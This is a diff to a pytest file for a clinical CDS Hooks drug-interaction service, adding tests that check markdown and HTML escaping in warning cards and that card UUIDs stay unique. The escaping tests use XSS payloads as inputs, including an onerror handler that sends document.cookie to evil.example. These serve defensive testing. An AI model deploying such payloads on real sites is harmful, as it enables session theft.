@@ -85,11 +85,68 @@ def test_a_selection_that_names_no_draft_makes_the_check_incomplete(index):
     data = body("order-select", [{"resource": med("MedicationRequest", "r1", "oxycodone")}], ["MedicationRequest/r2"])
     result = cdshooks.handle(index, "interactions-order-select", data, AS_OF)
     assert [c["summary"] for c in result["cards"]] == ["Interaction check incomplete: some orders were not checked"]
-    assert "- MedicationRequest/r2 was not found in context.draftOrders" in result["cards"][0]["detail"]
+    assert "- MedicationRequest/r2 was not found in context.draftOrders" in unescape(result["cards"][0]["detail"])
 
 
 def test_a_selected_order_with_a_status_that_is_not_checked_makes_the_check_incomplete(index):
     data = body("order-select", [{"resource": med("MedicationRequest", "r1", "oxycodone", status="entered-in-error")}], ["MedicationRequest/r1"])
     result = cdshooks.handle(index, "interactions-order-select", data, AS_OF)
     assert [c["summary"] for c in result["cards"]] == ["Interaction check incomplete: some orders were not checked"]
-    assert "- MedicationRequest/r1 (oxycodone): status entered-in-error" in result["cards"][0]["detail"]
+    assert "- MedicationRequest/r1 (oxycodone): status entered-in-error" in unescape(result["cards"][0]["detail"])
+
+
+# --- escaping ---------------------------------------------------------------------------
+
+
+def unescape(text: str) -> str:
+    """Read escaped text back as a CommonMark renderer shows it: backslash escapes and the five entities."""
+    import html
+    import re
+
+    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text))
+
+
+@pytest.mark.parametrize("text", [
+    '<img src=x onerror="alert(1)">', "[click](https://evil.example/x)", "![i](http://e/x.png)", "www.evil.example", "a@b.example",
+    "**bold** _it_ `code` ~~x~~", "# heading", "- item", "1. item", "> quote", "| a | b |", "&lt;b&gt;", "\\<b>", "javascript:alert(1)",
+])
+def test_escape_leaves_no_markup_and_reads_back_as_the_text(text):
+    escaped = cdshooks.escape(text)
+    assert "<" not in escaped and ">" not in escaped and '"' not in escaped
+    assert not any(ch in escaped.replace("\\" + ch, "") for ch in "[]()*_`#|!~:")
+    assert unescape(escaped) == text
+
+
+def test_escape_makes_one_line_without_control_or_bidi_characters():
+    assert cdshooks.escape("a\nb\r\nc\u2028d\u202ee\x00f\u200bg") == "a b  c d e f g"
+
+
+def test_medication_text_is_escaped_in_the_incomplete_card(index):
+    attack = '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"> [see](https://evil.example)'
+    prefetch = dict(PREFETCH, medications=searchset(med("MedicationRequest", "x<y>", attack, status="active")))
+    result = cdshooks.handle(index, "interactions-order-select", body("order-select", [{"resource": med("MedicationRequest", "r1", "oxycodone")}], ["MedicationRequest/r1"], prefetch), AS_OF)
+    (incomplete,) = [c for c in result["cards"] if c["summary"].startswith("Interaction check incomplete")]
+    assert "<img" not in incomplete["detail"] and "](" not in incomplete["detail"]
+    line = next(x for x in incomplete["detail"].splitlines() if "onerror" in x)
+    assert unescape(line) == f"- {attack} (MedicationRequest/x<y>)"
+
+
+# --- card uuids -------------------------------------------------------------------------
+
+
+def test_card_uuids_are_stable_per_hook_instance_and_unique_per_answer(index):
+    prefetch = dict(PREFETCH, medications=searchset(med("MedicationRequest", "a", "lorazepam", "active"), med("MedicationRequest", "b", "zolpidem", "active"),
+                                                    med("MedicationRequest", "c", "zuranolonx", "active")))
+    data = body("order-sign", [{"resource": med("MedicationRequest", "n", "oxycodone 5 mg")}], prefetch=prefetch)
+    first = cdshooks.handle(index, "interactions-order-sign", data, AS_OF)["cards"]
+    assert len(first) >= 3
+    ids = [c["uuid"] for c in first]
+    assert len(set(ids)) == len(ids)
+    assert [c["uuid"] for c in cdshooks.handle(index, "interactions-order-sign", copy.deepcopy(data), AS_OF)["cards"]] == ids
+    data["hookInstance"] = "another-call"
+    assert not set(ids) & {c["uuid"] for c in cdshooks.handle(index, "interactions-order-sign", data, AS_OF)["cards"]}
+
+
+def test_card_uuid_never_repeats_within_an_answer():
+    taken: set = set()
+    assert len({cdshooks.card_uuid("h", "same-rule|a,b", taken) for _ in range(5)}) == 5
